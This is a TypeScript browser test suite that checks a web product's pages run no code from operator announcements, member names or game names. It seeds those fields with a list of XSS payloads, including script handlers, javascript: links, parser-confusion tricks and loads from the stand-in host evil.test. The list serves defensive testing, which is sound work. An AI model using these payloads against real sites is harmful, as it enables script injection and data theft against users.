import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { register } from '#api/session/session'
import { DESKTOP, openBrowser, openPage } from '#tests/support/page/browser'
import { isReady, LIST } from '#tests/support/page/lists'
import { pressPopupLink } from '#tests/support/page/popups'
import { openBlank } from '#tests/support/page/renew'
import { atRest } from '#tests/support/page/rest'
import { callEndpoint, freshName, PASSWORD } from '#tests/support/product/client'
import { product } from '#tests/support/product/running'
import { FULL } from '#tests/support/product/tier'

/**
 * Texts that operators, members and vendors write, stored by the product and shown by its pages: no page runs any of
 * them, shows any of them as markup of its own, or asks anybody for them.
 */

const X = 'data-injected'
const VECTORS = [
  `<img src=x ${X} onerror=alert(1)>`,
  `"><script ${X}>alert(1)</script>`,
  `<svg ${X} onload=alert(1)>`,
  `<svg><script ${X} href=//evil.test/x.js /></svg>`,
  `<iframe ${X} srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe ${X} src="javascript:alert(1)"></iframe>`,
  `<object ${X} data="//evil.test/x.svg"></object>`,
  `<embed ${X} src="//evil.test/x.svg">`,
  `<a ${X} href="javascript:alert(1)">uno</a>`,
  `<a ${X} href="java\tscript:alert(1)">dos</a>`,
  `<a ${X} href="&#106;avascript:alert(1)">tres</a>`,
  `<a ${X} href="/\\evil.test">cuatro</a>`,
  `<a ${X} href="//evil.test/x" ping="//evil.test/y">cinco</a>`,
  `<form ${X} action="//evil.test/"><input name=password autofocus onfocus=alert(1)></form>`,
  `<details ${X} open ontoggle=alert(1)>x</details>`,
  `<video ${X} autoplay onplay=alert(1)><source src="//evil.test/x.mp4" onerror=alert(1)></video>`,
  `<img ${X} srcset="//evil.test/x.png 2x" src="//evil.test/x.png" loading=eager>`,
  `<link ${X} rel=stylesheet href="//evil.test/x.css">`,
  `<style ${X}>@import "//evil.test/x.css"; * { background: url(//evil.test/x.png) }</style>`,
  `<p ${X} style="background:url(//evil.test/x.png)">seis</p>`,
  `<base ${X} href="//evil.test/">`,
  `<meta ${X} http-equiv=refresh content="0;url=//evil.test/">`,
  `<math><mtext><table><mglyph><style><!--</style><img ${X} title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<noscript><p title="</noscript><img ${X} src=x onerror=alert(1)>">`,
  `<template><img ${X} src=x onerror=alert(1)></template>`,
  `<textarea><img title="</textarea><img ${X} src=x onerror=alert(1)>"></textarea>`,
  `<select><style></select><img ${X} src=x onerror=alert(1)></style>`,
  `<b id=location name=cookie ${X}>siete</b><img name=getElementById ${X}>`,
  `<!--><img ${X} src=x onerror=alert(1)>-->`,
  `{{constructor.constructor('alert(1)')()}}<\u0000img ${X} src=x onerror=alert(1)>\u2028`,
]
const vectors = FULL ? VECTORS : VECTORS.filter((_, index) => index % 4 === 0)
const [NAME = ''] = VECTORS

const operator = async (method: string, path: string, body?: object) => {
  const headers = { Authorization: `Bearer ${product.opsToken}`, 'Content-Type': 'application/json' }
  return fetch(product.origin + path, { method, headers, ...(body ? { body: JSON.stringify(body) } : {}) })
}
const idOf = (index: number) => `hostil-${index}`
const any = { enabled: true, required: false, acceptedPattern: '*', patternId: 'ANY', minLength: 2, maxLength: 80 }

let browser: Browser
/** The announcements that the platform did not refuse. */
let stored: string[] = []
beforeAll(async () => {
  browser = await openBrowser({ pictures: true })
  stored = (await Promise.all(vectors.map((text, index) => announced(idOf(index), text)))).flat()
  expect((await operator('PUT', '/ops/register-rules', { nickname: any, payeeName: any })).status).toBe(200)
})
afterAll(async () => {
  for (const id of stored) await operator('DELETE', `/ops/announcements?id=${id}`)
  await operator('PUT', '/ops/register-rules', {})
  await browser.close()
})

/** Returns the id of an announcement once it is stored; none when it is refused. */
async function announced(id: string, text: string): Promise<string[]> {
  const texts = { es: { title: `${id} ${text}`.slice(0, 120), content: `<p>${id}</p>${text}` } }
  const { status } = await operator('PUT', '/ops/announcements', { id, type: 'PL', texts })
  expect([200, 400]).toContain(status)
  return status === 200 ? [id] : []
}

/** Opens a page whose dialogs and requests to others are recorded. */
async function watched() {
  const { page, errors } = await openPage(browser, { viewport: DESKTOP })
  const dialogs: string[] = []
  const outside: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url())
    if (protocol !== 'data:' && origin !== product.origin) outside.push(request.url())
  })
  const expectHarmless = async () => {
    await atRest(page)
    expect(await injectedIn(page)).toEqual([])
    expect({ dialogs, outside, errors }).toEqual({ dialogs: [], outside: [], errors: [] })
  }
  return { page, expectHarmless }
}

/** Returns the elements that a text put into the page, and those that would run or lead away when they are used. */
function injectedIn(page: Page): Promise<string[]> {
  return page.evaluate((mark) => {
    const leadsAway = ({ protocol, host }: HTMLAnchorElement) =>
      /^(?:javascript|data|vbscript):$/.test(protocol) || host === 'evil.test'
    const handlers = (one: Element) => one.getAttributeNames().some((name) => name.startsWith('on'))
    return [...document.querySelectorAll('*')]
      .filter((one) => one.hasAttribute(mark) || handlers(one) || (one instanceof HTMLAnchorElement && leadsAway(one)))
      .map((one) => one.outerHTML.slice(0, 200))
  }, X)
}

test(`${vectors.length} announcements of an operator run no code`, async () => {
  const { page, expectHarmless } = await watched()
  const [first = ''] = stored
  const isShown = async () => {
    await page.goto('/pt/help')
    await pressPopupLink(page, { popup: 'notice', id: first })
    await page.locator('dialog [data-item]').first().waitFor()
    return page.locator(`dialog [data-detail=${first}]`).count()
  }
  // The edge holds the list for half a minute.
  await expect.poll(isShown, { timeout: 90_000, interval: 5_000 }).toBe(1)
  const close = async () => {
    await page.keyboard.press('Escape')
    await page.locator('dialog[open]').waitFor({ state: 'detached' })
  }
  await close()
  for (const id of stored) {
    await pressPopupLink(page, { popup: 'notice', id })
    const detail = page.locator(`dialog [data-detail=${id}]`)
    await detail.waitFor()
    expect(await detail.textContent()).toContain(id)
    await expectHarmless()
    await close()
  }
  await page.goto('/pt')
  await expectHarmless()
  await page.context().close()
})

test('the names of a member run no code', async () => {
  const fields = { username: freshName(), password: PASSWORD, confirmPassword: PASSWORD, birthday: '1990-05-17' }
  const names = { nickname: NAME, payeeName: NAME }
  const { token } = await callEndpoint(product.origin, register, {
    ...fields,
    ...names,
    terms: true,
    registerMethod: 'WEB',
  })
  const { page, expectHarmless } = await watched()
  await openBlank(page)
  await page.evaluate((value) => sessionStorage.setItem('token', value), String(token))
  for (const path of ['/', '/help']) {
    await page.goto(path)
    await page.locator('[data-account-bar][data-state=in]').waitFor({ state: 'attached' })
    await expect.poll(() => page.locator('header').textContent()).toContain(NAME)
    await expectHarmless()
  }
  await page.context().close()
})

test('the names of games and vendors run no code', async () => {
  const { page, expectHarmless } = await watched()
  await page.route(LIST, async (route) => {
    const response = await route.fetch()
    const body = (await response.json()) as { value: { games: Record<string, unknown>[] } }
    for (const game of body.value.games)
      for (const key of Object.keys(game)) if (/name/i.test(key)) Object.assign(game, { [key]: NAME })
    await route.fulfill({ json: body })
  })
  await page.goto('/rng?gameName=a')
  await isReady(page)
  await expect.poll(() => page.locator('[data-list] [data-tile]').first().textContent()).toContain(NAME)
  await expectHarmless()
  await page.context().close()
})
